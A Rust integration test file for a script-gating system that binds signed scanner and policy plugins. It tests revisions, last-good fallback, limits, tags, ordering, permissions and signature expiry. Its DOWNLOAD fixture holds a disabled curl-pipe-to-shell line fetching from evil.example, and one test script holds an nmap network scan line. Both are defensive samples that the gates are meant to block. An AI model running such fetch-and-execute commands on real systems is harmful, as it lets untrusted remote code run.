//! A binding is changed in place: revisions and the last one that was good, limits, scope, order, and who may weaken one.

use std::fs;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::Value;
use sluice_gate_types::input::Value as SettingValue;
use sluice_protocol::digest::Digest;
use sluice_protocol::gates::GateBinding;
use sluice_protocol::message::control::FromHost;
use sluice_protocol::report::Mode;
use sluice_protocol::script::Language;
use sluice_tests::fake::{FakeHost, FakeLink, operation, shipped_gate, shipped_gates};
use sluice_tests::{Fleet, Outcome, Output, eventually, installed, plugins, script};

use crate::hostile_host::{HARMLESS, run, started};
use crate::shipped::{expect_blocked, expect_runs};
use crate::trust::publisher;

const DOWNLOAD: &str = "#!/bin/sh\nif false; then curl -s https://evil.example/x.sh | sh; fi\n";

/// `sluice plugin bind` with these arguments: the binding's id.
pub(crate) fn bind(fleet: &Fleet, arguments: &[&str]) -> String {
    let output = fleet.sluice(&[&["plugin", "bind"], arguments].concat());
    assert_eq!(output.code, 0, "{arguments:?}: {output:?}");
    output.stdout.trim().to_owned()
}

/// A file of settings.
fn settings(fleet: &Fleet, text: &str) -> String {
    let file = fleet.folder().join("settings.toml");
    fs::write(&file, text).expect("writes");
    file.to_str().expect("is text").to_owned()
}

/// The binding of a plugin that is listed first.
fn binding(fleet: &Fleet, plugin: &str) -> Value {
    let bindings = fleet.list(&["plugin", "list", "--bindings"]);
    let found = bindings.into_iter().find(|bound| bound["plugin"] == plugin);
    found.expect("is bound")
}

fn revisions(fleet: &Fleet, binding: &Value) -> Vec<(Value, Value)> {
    let id = binding["id"].as_str().expect("is text");
    let listed = fleet.list(&["plugin", "revisions", id]);
    listed
        .iter()
        .map(|revision| (revision["revision"].clone(), revision["state"].clone()))
        .collect()
}

/// A shipped plugin as another version of the same length, installed, and signed by its publisher, who lets go back as far as
/// `minimum`: its digest.
pub(crate) fn install(
    fleet: &Fleet,
    name: &str,
    version: &str,
    minimum: &str,
    more: &[&str],
) -> String {
    let mut component = fs::read(plugins().join(format!("{name}.wasm"))).expect("was built");
    let (shipped, wanted) = (
        "\nversion = \"0.1.0\"".to_owned(),
        format!("\nversion = \"{version}\""),
    );
    let at = component
        .windows(shipped.len())
        .position(|window| window == shipped.as_bytes())
        .expect("has a version");
    component[at..at + wanted.len()].copy_from_slice(wanted.as_bytes());
    let file: PathBuf = fleet.folder().join(format!("{name}-{version}.wasm"));
    fs::write(&file, component).expect("writes");
    let (file, key) = (
        file.to_str().expect("is text"),
        plugins().join("publisher.key"),
    );
    let key = key.to_str().expect("is text");
    let sign = [
        "plugin",
        "sign",
        file,
        "--key",
        key,
        "--minimum-version",
        minimum,
    ];
    let signed = fleet.sluice(&[&sign, more].concat());
    assert_eq!(signed.code, 0, "{signed:?}");
    let installed = fleet.sluice(&["plugin", "install", file]);
    assert_eq!(installed.code, 0, "{installed:?}");
    installed.stdout.trim().to_owned()
}

/// What is said of the gates of a machine by `sluice machine show`.
fn gate_problems(fleet: &Fleet, machine: &str) -> Vec<String> {
    let shown = fleet.list(&["machine", "show", machine]).swap_remove(0);
    let problems = shown["gate_problems"].as_array().expect("is a list");
    problems
        .iter()
        .map(|problem| problem.as_str().expect("is text").to_owned())
        .collect()
}

fn notes(outcome: &Outcome) -> String {
    outcome.json["notes"].to_string()
}

#[test]
fn a_bound_plugin_is_changed_in_place_and_no_operation_finds_it_gone() {
    let fleet = Fleet::builder().start();
    let before = binding(&fleet, "scanner");
    let id = before["id"].as_str().expect("is text");
    assert_eq!(
        (&before["revision"], &before["state"]),
        (&1.into(), &"active".into())
    );
    let off = settings(&fleet, "disable = [\"download-and-run\"]\n");
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        // The machine wants a scanner that blocks: without one for a moment, one of these would be blocked.
        let operations = scope.spawn(|| {
            let mut count = 0;
            while !done.load(Ordering::Relaxed) || count < 3 {
                expect_runs(&fleet.run(&script(HARMLESS)));
                count += 1;
            }
        });
        for arguments in [&["scanner", "--settings", &off][..], &["scanner"]] {
            assert_eq!(bind(&fleet, arguments), id, "it is the same binding");
        }
        done.store(true, Ordering::Relaxed);
        operations.join().expect("every one of them ran");
    });
    expect_blocked(&fleet.run(&script(DOWNLOAD)), "Security scan");
    // With other settings from one command to the next operation.
    bind(&fleet, &["scanner", "--settings", &off]);
    expect_runs(&fleet.run(&script(DOWNLOAD)));
    let after = binding(&fleet, "scanner");
    assert_eq!(
        (&after["id"], &after["revision"], &after["bound_at"]),
        (&before["id"], &4.into(), &before["bound_at"])
    );
    let listed = revisions(&fleet, &after);
    let expected = [
        (4, "active"),
        (3, "replaced"),
        (2, "replaced"),
        (1, "replaced"),
    ];
    assert_eq!(
        listed,
        expected.map(|(number, state)| (number.into(), state.into()))
    );
    let revised = fleet.events().into_iter();
    assert_eq!(revised.filter(|event| event == "plugin_revised").count(), 3);
}

#[test]
fn a_revision_that_its_plugin_refuses_leaves_the_one_before_active_and_says_so() {
    let fleet = Fleet::builder().start();
    let before = binding(&fleet, "scanner");
    let wrong = settings(&fleet, "disable = [\"no-such-rule\"]\n");
    let refused = fleet.sluice(&["plugin", "bind", "scanner", "--settings", &wrong]);
    refused.expect_refused();
    let stays = format!(
        "revision 1 of binding {} stays active",
        before["id"].as_str().expect("is text")
    );
    assert!(
        refused.stderr.contains("no-such-rule") && refused.stderr.contains(&stays),
        "{refused:?}"
    );
    let after = binding(&fleet, "scanner");
    assert_eq!(
        (&after["revision"], &after["state"]),
        (&1.into(), &"active; revision 2 failed".into())
    );
    assert_eq!(
        (&after["settings"], &after["sha256"]),
        (&before["settings"], &before["sha256"])
    );
    let listed = fleet.list(&[
        "plugin",
        "revisions",
        after["id"].as_str().expect("is text"),
    ]);
    assert_eq!(
        (&listed[0]["revision"], &listed[0]["state"]),
        (&2.into(), &"failed".into())
    );
    assert!(
        listed[0]["reason"]
            .as_str()
            .is_some_and(|reason| reason.contains("no-such-rule")),
        "{listed:#?}"
    );
    expect_blocked(&fleet.run(&script(DOWNLOAD)), "Security scan");
    // What fits no schema is no revision at all, and stays out of the list.
    let unknown = settings(&fleet, "treshold = 1\n");
    let refused = fleet.sluice(&["plugin", "bind", "scanner", "--settings", &unknown]);
    refused.expect_refused();
    assert!(
        refused.stderr.contains("treshold") && refused.stderr.contains(&stays),
        "{refused:?}"
    );
    bind(&fleet, &["scanner"]);
    assert_eq!(
        revisions(&fleet, &after),
        [(3, "active"), (2, "failed"), (1, "replaced")]
            .map(|(number, state)| (number.into(), state.into()))
    );
}

#[test]
fn a_machine_that_cannot_use_a_revision_goes_on_with_the_one_before_and_says_so() {
    let mut fleet = Fleet::builder().start();
    let newer = install(&fleet, "scanner", "0.1.1", "0.1.0", &[]);
    // Nothing that comes from the host can be put there.
    let in_the_way = fleet.agents[0].machine.state.join("blobs").join(&newer);
    fs::create_dir_all(in_the_way.join("x")).expect("makes a folder");
    bind(&fleet, &[&newer]);
    let problems = eventually("the machine says what is wrong", || {
        Some(gate_problems(&fleet, "m1")).filter(|problems| !problems.is_empty())
    });
    let expect_last_good = |fleet: &Fleet| {
        let outcome = fleet.run(&script(HARMLESS));
        expect_runs(&outcome);
        assert!(
            notes(&outcome).contains(
                "the gate scanner was asked in revision 1: revision 2 cannot be used on this machine: "
            ),
            "{outcome:#?}"
        );
        let receipts = outcome.json["receipts"].as_array().expect("is a list");
        let scanner = receipts
            .iter()
            .find(|receipt| receipt["plugin"] == "scanner");
        assert_eq!(scanner.expect("was asked")["version"], "0.1.0");
    };
    assert!(
        problems.len() == 1
            && problems[0].starts_with("scanner: revision 2 cannot be used: ")
            && problems[0].ends_with("; revision 1 stays in force"),
        "{problems:?}"
    );
    let shown = fleet.sluice(&["machine", "show", "m1"]).stdout;
    assert!(shown.contains("revision 1 stays in force"), "{shown}");
    expect_last_good(&fleet);
    // Also where the agent was not there the last time that it worked.
    fleet.agents[0].restart();
    expect_last_good(&fleet);

    fs::remove_dir_all(in_the_way).expect("removes");
    bind(&fleet, &[&newer]);
    eventually("nothing is wrong any more", || {
        gate_problems(&fleet, "m1").is_empty().then_some(())
    });
    let outcome = fleet.run(&script(HARMLESS));
    expect_runs(&outcome);
    assert!(!notes(&outcome).contains("revision"), "{outcome:#?}");
}

/// The shipped gates with these in place of the one of the same plugin.
fn with(gate: GateBinding) -> Vec<GateBinding> {
    let mut gates = shipped_gates();
    gates.retain(|other| other.plugin != gate.plugin);
    gates.push(gate);
    gates
}

/// Binds these gates, waits until the machine has taken them in, and runs a script: what is wrong, and how it ended.
fn try_gates(
    host: &FakeHost,
    link: &FakeLink,
    gates: Vec<GateBinding>,
    script: &str,
) -> (Vec<String>, String, String) {
    let set = host.bind(gates);
    link.say(&FromHost::Gates(Box::new(set.clone())));
    let problems = link.gates_ready(set.revision);
    let mut operation = operation(script);
    operation.gates_revision = set.revision;
    let answer = run(link, &operation);
    let (state, message) = answer.ending();
    (problems, state.to_owned(), message.to_owned())
}

#[test]
fn a_gate_stands_in_for_a_newer_revision_only_where_it_may_still_be_asked() {
    let host = FakeHost::start();
    let machine = host.machine("m1", "");
    let _agent = machine.start();
    let link = host.serve();
    let nowhere = |gate: &GateBinding| GateBinding {
        revision: gate.revision + 1,
        component: Digest::of(b"nobody has this"),
        ..gate.clone()
    };
    // The signature is about other bytes, so that the newer one is refused before it is asked for.
    let scanner = shipped_gate("scanner", &[]);
    let (problems, state, _) = try_gates(&host, &link, with(scanner.clone()), HARMLESS);
    assert_eq!((problems, state.as_str()), (vec![], "succeeded"));
    let (problems, state, message) = try_gates(&host, &link, with(nowhere(&scanner)), DOWNLOAD);
    assert!(
        problems.len() == 1 && problems[0].ends_with("; revision 1 stays in force"),
        "{problems:?}"
    );
    assert!(
        state == "blocked" && message.starts_with("Security scan"),
        "the gate that stayed is asked: {state} {message}"
    );

    // One that only watches does not stand in for one that blocks.
    let watching = GateBinding {
        mode: Mode::Monitor,
        ..shipped_gate("scanner", &[])
    };
    let both = |gate: GateBinding| [shipped_gates(), vec![gate]].concat();
    let (problems, ..) = try_gates(&host, &link, both(watching.clone()), HARMLESS);
    assert_eq!(problems, [""; 0]);
    let blocking = GateBinding {
        mode: Mode::Enforce,
        ..nowhere(&watching)
    };
    let (problems, state, message) = try_gates(&host, &link, both(blocking), HARMLESS);
    assert!(
        problems.len() == 1 && !problems[0].contains("stays in force"),
        "{problems:?}"
    );
    assert!(
        state == "blocked" && message.starts_with("Blocked by scanner: "),
        "{state} {message}"
    );

    // Nor does one whose publisher is trusted no more.
    let (problems, ..) = try_gates(&host, &link, with(scanner.clone()), HARMLESS);
    assert_eq!(problems, [""; 0]);
    host.trust(Vec::new());
    let before = started(&machine);
    let (problems, state, _) = try_gates(&host, &link, with(nowhere(&scanner)), HARMLESS);
    assert!(
        state == "blocked" && !problems.concat().contains("stays in force"),
        "{problems:?}"
    );
    assert_eq!(started(&machine), before);
}

#[test]
fn a_gate_that_stays_must_be_as_the_owner_requires_it() {
    let host = FakeHost::start();
    let policy = format!(
        "[[gates.required]]\nid = \"policy\"\npublisher = \"{}\"\nsettings = {{ threshold = \"low\" }}\n",
        publisher()
    );
    let machine = host.machine("m1", "");
    let agent = machine.start();
    let link = host.serve();
    let weak = shipped_gate("policy", &[]);
    let (problems, state, _) = try_gates(&host, &link, with(weak.clone()), HARMLESS);
    assert_eq!((problems, state.as_str()), (vec![], "succeeded"));
    machine.configure(&policy);
    agent.signal(nix::sys::signal::Signal::SIGHUP);
    // As the owner wants it now, but it cannot be fetched; the one before is not as the owner wants it.
    let threshold = [("threshold", SettingValue::Text("low".to_owned()))];
    let strict = GateBinding {
        binding: weak.binding,
        revision: 2,
        size: weak.size + 1,
        ..shipped_gate("policy", &threshold)
    };
    let message = eventually("the owner's new policy holds", || {
        let (problems, state, message) = try_gates(&host, &link, with(strict.clone()), HARMLESS);
        let concerns = !problems.concat().contains("stays in force");
        (concerns && state == "blocked").then_some(message)
    });
    assert!(message.starts_with("Blocked by policy: "), "{message}");
}

#[test]
fn gates_that_are_the_same_in_the_next_set_are_not_bound_again() {
    let host = FakeHost::start();
    let machine = host.machine("m1", "");
    let _agent = machine.start();
    let link = host.serve();
    let gates = shipped_gates();
    let (problems, state, _) = try_gates(&host, &link, gates.clone(), HARMLESS);
    assert_eq!((problems, state.as_str()), (vec![], "succeeded"));
    // Whoever binds one again has to compile it, and keeps what comes of it here.
    let compiled = machine.state.join("gates/host");
    let entries = || {
        let all = fs::read_dir(&compiled).expect("reads").flatten();
        let files = all.filter(|entry| entry.file_name() != "mac.key");
        files.map(|entry| entry.path()).collect::<Vec<_>>()
    };
    for entry in entries() {
        fs::remove_file(entry).expect("removes");
    }
    let mut next = gates.clone();
    for gate in &mut next {
        gate.revision += 1;
    }
    let (problems, state, _) = try_gates(&host, &link, next, HARMLESS);
    assert_eq!((problems, state.as_str()), (vec![], "succeeded"));
    assert_eq!(entries(), Vec::<PathBuf>::new());
    // One that is another is.
    let targets = [("max-targets", SettingValue::Integer(7))];
    let (problems, ..) = try_gates(
        &host,
        &link,
        with(shipped_gate("policy", &targets)),
        HARMLESS,
    );
    assert_eq!(problems, [""; 0]);
    assert!(!entries().is_empty());
}

#[test]
fn a_binding_takes_from_its_plugins_limits_and_adds_nothing() {
    let fleet = Fleet::builder().start();
    for (limit, named) in [
        ("fuel=99999999999999", "fuel cannot be 99999999999999"),
        ("memory=1GiB", "memory cannot be"),
        ("time=1h", "time cannot be"),
        ("fuel=0", "fuel must be at least 1"),
    ] {
        let refused = fleet.sluice(&["plugin", "bind", "scanner", "--limit", limit]);
        refused.expect_refused();
        assert!(refused.stderr.contains(named), "{limit}: {refused:?}");
    }
    assert_eq!(binding(&fleet, "scanner")["revision"], 1);
    expect_runs(&fleet.run(&script(HARMLESS)));
    bind(&fleet, &["scanner", "--limit", "fuel=1000"]);
    assert_eq!(binding(&fleet, "scanner")["limits"]["fuel"], 1000);
    // The same question was answered before, with more fuel than there is now.
    expect_blocked(&fleet.run(&script(HARMLESS)), "fuel");
    bind(&fleet, &["scanner"]);
    expect_runs(&fleet.run(&script(HARMLESS)));

    // A host that gives more than its plugin asks for is refused by the machine.
    let host = FakeHost::start();
    let machine = host.machine("m1", "");
    let _agent = machine.start();
    let link = host.serve();
    let mut greedy = shipped_gate("scanner", &[]);
    greedy.limits.fuel = Some(u64::MAX);
    let (problems, state, _) = try_gates(&host, &link, with(greedy), HARMLESS);
    assert!(
        state == "blocked" && problems.concat().contains("fuel cannot be"),
        "{problems:?}"
    );
    let mut short = shipped_gate("scanner", &[]);
    short.limits.fuel = Some(1000);
    let (problems, state, message) = try_gates(&host, &link, with(short), HARMLESS);
    assert_eq!(problems, [""; 0]);
    assert!(
        state == "blocked" && message.contains("fuel"),
        "{state} {message}"
    );
}

#[test]
fn a_binding_with_a_tag_is_for_machines_that_have_it_now() {
    let fleet = Fleet::builder().agents(2).start();
    let bash = script("#!/bin/bash\n:\n");
    let tag = |machine: &str, tag: &str| {
        assert_eq!(fleet.sluice(&["machine", "tag", machine, tag]).code, 0);
    };
    tag("m1", "role=web");
    let only_sh = settings(&fleet, "interpreters = [\"sh\"]\n");
    let all = binding(&fleet, "policy");
    let id = bind(
        &fleet,
        &["policy", "--settings", &only_sh, "--tag", "role=web"],
    );
    assert_ne!(all["id"], id.as_str(), "another scope, another binding");
    expect_blocked(&fleet.run(&bash.clone().on("m1")), "Blocked by policy: ");
    expect_runs(&fleet.run(&bash.clone().on("m2")));
    expect_runs(&fleet.run(&script(HARMLESS).on("m1")));
    // What is looked at is the tag as it is.
    tag("m2", "role=web");
    tag("m1", "role=db");
    expect_blocked(&fleet.run(&bash.clone().on("m2")), "Blocked by policy: ");
    expect_runs(&fleet.run(&bash.clone().on("m1")));
    // Bound again with that tag it is that binding.
    assert_eq!(bind(&fleet, &["policy", "--tag", "role=web"]), id);
    expect_runs(&fleet.run(&bash.on("m2")));
    assert_eq!(binding(&fleet, "policy")["revision"], 1);
}

#[test]
fn tags_that_no_binding_looks_at_change_no_gates() {
    let fleet = Fleet::builder().start();
    let bound = || {
        let bound = fleet.list(&["audit", "list"]).into_iter();
        let mut revisions = bound.filter_map(|entry| entry["details"]["gates_revision"].as_u64());
        revisions.next_back()
    };
    let rebind = || {
        bind(&fleet, &["policy"]);
        bound().expect("is on the record")
    };
    let before = rebind();
    assert_eq!(fleet.sluice(&["machine", "tag", "m1", "rack=7"]).code, 0);
    assert_eq!(rebind(), before + 1);
    bind(&fleet, &["policy", "--tag", "rack=7"]);
    assert_eq!(fleet.sluice(&["machine", "tag", "m1", "rack-"]).code, 0);
    assert_eq!(rebind(), before + 4);
}

#[test]
fn a_binding_for_an_interpreter_is_asked_about_scripts_of_its_language() {
    if !installed("/usr/bin/perl") {
        return;
    }
    let fleet = Fleet::builder().start();
    let perl = script("#!/usr/bin/perl\n1;\n");
    expect_runs(&fleet.run(&perl));
    let only_ruby = settings(&fleet, "interpreters = [\"ruby\"]\n");
    let refused = fleet.sluice(&["plugin", "bind", "policy", "--interpreter", "tclsh"]);
    refused.expect_refused();
    bind(
        &fleet,
        &["policy", "--settings", &only_ruby, "--interpreter", "perl"],
    );
    expect_blocked(&fleet.run(&perl), "Blocked by policy: ");
    expect_runs(&fleet.run(&script(HARMLESS)));
}

#[test]
fn a_machine_asks_a_gate_that_its_owner_requires_about_every_language() {
    let run_on = |policy: &str| {
        let host = FakeHost::start();
        let machine = host.machine("m1", policy);
        let _agent = machine.start();
        let link = host.serve();
        let elsewhere = GateBinding {
            languages: vec![Language::Perl],
            ..shipped_gate("scanner", &[])
        };
        let (problems, state, message) = try_gates(&host, &link, with(elsewhere), DOWNLOAD);
        assert_eq!(problems, [""; 0]);
        assert_eq!(state, "blocked", "{message}");
        message
    };
    assert_eq!(
        run_on(""),
        "Blocked by machine policy: no scanner for stage scan"
    );
    let required = format!(
        "[gates]\nrequired = [{{ id = \"scanner\", publisher = \"{}\" }}]\n",
        publisher()
    );
    let message = run_on(&required);
    assert!(message.starts_with("Security scan"), "{message}");
}

#[test]
fn the_gate_with_the_lower_position_is_told_first() {
    let fleet = Fleet::builder().start();
    assert_eq!(fleet.sluice(&["machine", "tag", "m1", "a=b"]).code, 0);
    let only_ruby = settings(&fleet, "interpreters = [\"ruby\"]\n");
    bind(
        &fleet,
        &[
            "policy",
            "--settings",
            &only_ruby,
            "--tag",
            "a=b",
            "--position",
            "7",
        ],
    );
    let low = settings(&fleet, "threshold = \"info\"\n");
    bind(&fleet, &["policy", "--settings", &low]);
    // Both block it: one for the interpreter, the other for what was found.
    let scan = script("#!/bin/bash\nexit 0\nnmap 203.0.113.0/24\n");
    let message = |fleet: &Fleet| {
        let outcome = fleet.run(&scan);
        assert_eq!(outcome.text("state"), "blocked", "{outcome:#?}");
        outcome.text("message")
    };
    let first = message(&fleet);
    assert!(first.contains("bash"), "{first}");
    assert_eq!(
        fleet.list(&["plugin", "list", "--bindings"])[0]["position"],
        7
    );
    bind(&fleet, &["policy", "--settings", &low, "--position", "3"]);
    let second = message(&fleet);
    assert_ne!(first, second, "the other one's reason comes first now");
}

#[test]
fn whoever_manages_plugins_alone_weakens_no_gate_that_blocks() {
    let fleet = Fleet::builder().start();
    let token = fleet.token_with("plugins", &["ManagePlugins"]);
    let scanner = binding(&fleet, "scanner");
    let id = scanner["id"].as_str().expect("is text");
    let manager = |arguments: &[&str]| {
        let mut command = fleet.command();
        command.env("SLUICE_TOKEN", &token).args(arguments);
        Output::of(&command.output().expect("sluice was built"))
    };
    for arguments in [
        &["plugin", "bind", "scanner", "--mode", "monitor"][..],
        &["plugin", "bind", "scanner", "--binding", id, "--tag", "a=b"],
        &[
            "plugin",
            "bind",
            "scanner",
            "--binding",
            id,
            "--interpreter",
            "perl",
        ],
        &["plugin", "unbind", id],
    ] {
        let refused = manager(arguments);
        refused.expect_refused();
        assert!(
            refused.stderr.contains("Administer"),
            "{arguments:?}: {refused:?}"
        );
        assert_eq!(
            fleet.events().last().map(String::as_str),
            Some("permission_denied")
        );
    }
    assert_eq!(binding(&fleet, "scanner"), scanner);
    // Everything else is theirs: another revision that blocks, and one that only watches from the start.
    assert_eq!(manager(&["plugin", "bind", "scanner"]).code, 0);
    let watching = [
        "plugin", "bind", "scanner", "--mode", "monitor", "--tag", "a=b",
    ];
    assert_eq!(manager(&watching).code, 0);
    bind(&fleet, &["scanner", "--mode", "monitor"]);
    let revised = fleet.list(&["audit", "list"]).into_iter();
    let revised: Vec<_> = revised
        .filter(|entry| entry["event"] == "plugin_revised")
        .collect();
    let last = revised.last().expect("is on the record");
    assert_eq!(
        (&last["details"]["mode"], &last["details"]["replaced_mode"]),
        (&"monitor".into(), &"enforce".into()),
        "{last:#}"
    );
}

#[test]
fn a_host_makes_its_gates_ready_when_it_starts() {
    let fleet = Fleet::builder().agents(0).start();
    eventually("its runner is there before anybody asks", || {
        fleet
            .host
            .log()
            .contains("gate runner started")
            .then_some(())
    });
}

#[test]
fn a_gate_of_a_publisher_who_is_trusted_no_more_blocks_before_anything_is_sent() {
    let fleet = Fleet::builder().start();
    expect_runs(&fleet.run(&script(HARMLESS)));
    assert_eq!(fleet.sluice(&["plugin", "untrust", &publisher()]).code, 0);
    let outcome = fleet.run(&script(HARMLESS));
    expect_blocked(&outcome, "cannot be asked on the host: the publisher ");
    assert_eq!(fleet.sluice(&["plugin", "trust", &publisher()]).code, 0);
    expect_runs(&fleet.run(&script(HARMLESS)));
}

#[test]
fn a_signature_that_expires_later_counts_no_more_on_host_and_machine() {
    let fleet = Fleet::builder().start();
    let short = install(&fleet, "policy", "0.1.1", "0.1.0", &["--expires", "10s"]);
    bind(&fleet, &[&short]);
    let outcome = eventually("the host asks it no more", || {
        let outcome = fleet.run(&script(HARMLESS));
        (outcome.text("code") == "gate-unavailable").then_some(outcome)
    });
    expect_blocked(
        &outcome,
        "cannot be asked on the host: the signature has expired",
    );

    // The machine looks by itself, also where no set comes after the one that was good.
    let host = FakeHost::start();
    let machine = host.machine("m1", "");
    let _agent = machine.start();
    let link = host.serve();
    let expiring = fs::read(fleet.folder().join("policy-0.1.1.wasm")).expect("reads");
    let file = fleet.folder().join("policy-0.1.1.wasm");
    let file = file.to_str().expect("is text");
    let key = plugins().join("publisher.key");
    let key = key.to_str().expect("is text");
    let signed = fleet.sluice(&["plugin", "sign", file, "--key", key, "--expires", "15s"]);
    assert_eq!(signed.code, 0, "{signed:?}");
    let gate = GateBinding {
        size: expiring.len() as u64,
        component: host.hold(expiring),
        signature: fs::read(format!("{file}.sig")).expect("reads"),
        ..shipped_gate("policy", &[])
    };
    let (problems, state, _) = try_gates(&host, &link, with(gate), HARMLESS);
    assert_eq!((problems, state.as_str()), (vec![], "succeeded"));
    let revision = host.gates().revision;
    let message = eventually("the machine asks it no more", || {
        let mut operation = operation(HARMLESS);
        operation.gates_revision = revision;
        let answer = run(&link, &operation);
        let (state, message) = answer.ending();
        (state == "blocked").then(|| message.to_owned())
    });
    assert_eq!(
        message,
        "Blocked by policy: its publisher's signature has expired"
    );
}

#[test]
fn what_is_only_tried_leaves_the_way_back_open_and_what_blocks_shuts_it() {
    let fleet = Fleet::builder().start();
    let older = binding(&fleet, "scanner")["sha256"].clone();
    let older = older.as_str().expect("is text");
    let newer = install(&fleet, "scanner", "0.1.1", "0.1.1", &[]);
    let scanned_by = |version: &str| {
        let outcome = fleet.run(&script(HARMLESS));
        expect_runs(&outcome);
        let receipts = outcome.json["receipts"].as_array().expect("is a list");
        let of_scanner = |receipt: &&Value| receipt["plugin"] == "scanner";
        let versions: Vec<_> = receipts.iter().filter(of_scanner).collect();
        assert!(
            versions.iter().any(|receipt| receipt["version"] == version),
            "{receipts:#?}"
        );
    };
    // Beside the one that blocks, on machines that have the tag.
    assert_eq!(fleet.sluice(&["machine", "tag", "m1", "ring=1"]).code, 0);
    bind(&fleet, &[&newer, "--mode", "monitor", "--tag", "ring=1"]);
    scanned_by("0.1.1");
    scanned_by("0.1.0");
    bind(&fleet, &[older]);
    scanned_by("0.1.0");
    bind(&fleet, &[&newer]);
    scanned_by("0.1.1");
    let refused = fleet.sluice(&["plugin", "bind", older]);
    refused.expect_refused();
    assert!(
        refused.stderr.contains("lets nobody go back below 0.1.1")
            && refused.stderr.contains("stays active"),
        "{refused:?}"
    );
    scanned_by("0.1.1");
}
